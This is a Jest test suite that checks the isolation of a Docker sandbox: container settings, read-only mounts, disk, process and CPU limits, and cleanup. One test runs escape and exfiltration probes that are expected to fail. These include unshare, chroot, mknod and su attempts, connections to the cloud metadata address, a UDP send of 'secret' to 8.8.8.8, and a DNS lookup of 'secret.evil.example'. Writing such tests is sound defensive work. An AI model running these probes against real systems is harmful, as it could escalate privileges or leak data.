import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { packFiles } from '../../src/sandbox/pack.ts';
import type { Sandbox } from '../../src/sandbox/types.ts';
import { ownSandboxes } from './support.ts';

const MIB = 1024 * 1024;
const LIMITS = {
  memoryBytes: 768 * MIB,
  pids: 128,
  cpus: 0.5,
  workspaceBytes: 32 * MIB,
  workspaceInodes: 500,
  ttlSeconds: 300,
};
const box = ownSandboxes({ limits: LIMITS });
const tree = () => packFiles([['a.txt', Buffer.from('a\n')]]);
let sandbox: Sandbox;

beforeAll(async () => {
  await box.sandboxes.ensureImage(() => {});
  sandbox = await box.sandboxes.open({ runId: 'run-1', purpose: 'gate', tree, layers: [] });
}, 300_000);

afterAll(async () => {
  await sandbox?.close();
  await box.clear();
});

const say = async (script: string) =>
  (await sandbox.run({ argv: ['bash', '-c', script], timeoutMs: 60_000 })).output.trim();

test('as the engine sees it: nothing of the host, no privileges, every limit set', async () => {
  const it = await box.docker.getContainer(sandbox.id).inspect();
  expect(it.HostConfig).toMatchObject({
    Privileged: false,
    NetworkMode: 'none',
    PidMode: '',
    UsernsMode: '',
    IpcMode: 'private',
    ReadonlyRootfs: true,
    CapAdd: null,
    CapDrop: ['ALL'],
    SecurityOpt: ['no-new-privileges'],
    Binds: null,
    Memory: LIMITS.memoryBytes,
    MemorySwap: LIMITS.memoryBytes,
    PidsLimit: LIMITS.pids,
    NanoCpus: LIMITS.cpus * 1e9,
  });
  expect(it.HostConfig.Devices ?? []).toEqual([]);
  expect(it.Config.User).toBe('10002:10002');
  expect(it.Mounts.map((mount) => [mount.Type, mount.Destination])).toEqual([['volume', '/workspace']]);
  expect(JSON.stringify(it)).not.toMatch(/docker\.sock|unconfined/);
});

test('as code inside sees it: nothing to write to, no way up, no way out', async () => {
  const writable = await say(
    "awk '$2 !~ /^\\/(proc|dev)(\\/|$)/ { print $2 }' /proc/mounts | sort | while read -r at; do : 2> /dev/null > $at/x && echo $at; done",
  );
  expect(writable.split('\n')).toEqual(['/home/agent', '/run/fettle', '/tmp', '/workspace']);
  expect(await say("awk '$2 ~ /^\\/(tmp|workspace|home|run)/ { print $4 }' /proc/mounts | grep -vc nosuid")).toBe('0');
  for (const script of [
    'unshare -r true',
    'unshare -n true',
    'mount -t tmpfs x /tmp',
    'chroot / true',
    'mknod /tmp/d b 8 0',
    'su -c true',
  ]) {
    expect(await say(`${script} > /dev/null 2>&1 < /dev/null; echo $?`)).not.toBe('0');
  }
  const node = (code: string) => say(`node -e '${code}'`);
  const reach = (host: string) =>
    node(
      `require("net").connect({port:80,host:"${host}"}).on("error",(e)=>console.log(e.code)).on("connect",()=>console.log("REACHED"))`,
    );
  for (const host of ['169.254.169.254', '10.0.0.1', '1.1.1.1', 'fd00:ec2::254'])
    expect(await reach(host)).toMatch(/ENETUNREACH|EADDRNOTAVAIL/);
  const send =
    'const s=require("dgram").createSocket("udp4");s.on("error",(e)=>{console.log(e.code);process.exit()});s.send("secret",53,"8.8.8.8",(e)=>{console.log(e?e.code:"SENT");process.exit()})';
  expect(await node(send)).toBe('ENETUNREACH');
  expect(await node('require("dns").resolve("secret.evil.example",(e)=>console.log(e.code))')).toMatch(
    /ECONNREFUSED|ETIMEOUT|ESERVFAIL/,
  );
});

test('the disk is full at its size, and at its number of files, in every place that can be written to', async () => {
  expect(await say('head -c 40M /dev/zero > big; rm -f big')).toContain('No space left');
  expect(await say('mkdir many; for n in $(seq 600); do : > many/$n || break; done; rm -rf many')).toContain(
    'No space left',
  );
  // Smaller than the memory of the sandbox, so that a full /tmp leaves room to remove it again.
  const filled = await sandbox.run({ argv: ['bash', '-c', 'head -c 1200M /dev/zero > /tmp/big'], timeoutMs: 60_000 });
  expect(filled.exitCode).not.toBe(0);
});

test('four busy loops get no more processor time than they may have', async () => {
  const other = await box.sandboxes.open({ runId: 'run-cpu', purpose: 'gate', tree, layers: [] });
  try {
    const script =
      'for n in 1 2 3 4; do (while :; do :; done) & done; sleep 3; kill $(jobs -p); wait; cat /sys/fs/cgroup/cpu.stat /sys/fs/cgroup/cpu/cpu.stat 2>/dev/null';
    const { output } = await other.run({ argv: ['bash', '-c', script], timeoutMs: 60_000 });
    expect(Number(/^nr_throttled (\d+)/m.exec(output)?.[1])).toBeGreaterThan(0);
  } finally {
    await other.close();
  }
});

test('a runtime that the engine does not know is said, and leaves nothing', async () => {
  const wrong = ownSandboxes({ owner: box.owner, settings: { runtime: 'no-such-runtime' } });
  const opening = wrong.sandboxes.open({ runId: 'run-wrong', purpose: 'gate', tree, layers: [] });
  await expect(opening).rejects.toThrow('FETTLE_SANDBOX_RUNTIME is wrong: the engine knows no runtime no-such-runtime');
  expect(await box.sandboxes.sweep((runId) => runId !== 'run-wrong')).toBe(0);
});

test('a sandbox whose container died, as with its engine, is said to be gone, and a sweep leaves nothing of it', async () => {
  const lost = await box.sandboxes.open({ runId: 'run-lost', purpose: 'agent', tree, layers: [] });
  await box.docker.getContainer(lost.id).kill();
  await expect(lost.run({ argv: ['true'], timeoutMs: 10_000 })).rejects.toThrow('gone');
  // Another process, which knows nothing but the label.
  await ownSandboxes({ owner: box.owner }).sandboxes.sweep((runId) => runId !== 'run-lost');
  const filters = { label: [`fettle.owner=${box.owner}`, 'fettle.run=run-lost'] };
  expect(await box.docker.listContainers({ all: true, filters })).toEqual([]);
  expect((await box.docker.listVolumes({ filters: filters as never })).Volumes).toEqual([]);
});
